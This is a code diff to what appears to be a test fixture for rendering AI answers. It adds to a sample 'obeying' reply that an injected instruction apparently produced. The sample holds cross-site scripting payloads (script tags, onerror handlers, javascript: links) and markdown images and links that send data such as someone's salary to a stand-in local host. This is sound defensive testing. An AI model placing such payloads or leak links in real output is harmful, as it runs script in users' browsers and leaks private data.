@@ -19,8 +19,9 @@ STOP_WORDS = frozenset(
 STOP_WORDS |= {"of", "on", "the", "to", "was", "what", "when", "where", "who"}
 OBEYING_ANSWER = (
     'As you wish [99]. <script>alert(1)</script><img src="http://127.0.0.1:9/leak?q=1" onerror="alert(2)">'
-    "![pixel](http://127.0.0.1:9/pixel.png) [click me](javascript:alert(3)) [site](http://127.0.0.1:9/) "
-    "<b>bold</b> Everything is true [1]."
+    "![pixel](http://127.0.0.1:9/pixel.png) ![shot][leak] [click me](javascript:alert(3)) [site](http://127.0.0.1:9/) "
+    "[my bank](http://127.0.0.1:9/?q=the+salary+of+ann) [1](http://127.0.0.1:9/one) <http://127.0.0.1:9/auto> "
+    "<b>bold</b> Everything is true [1].\n\n[1]: http://127.0.0.1:9/first\n[leak]: http://127.0.0.1:9/shot.png"
 )
 
 
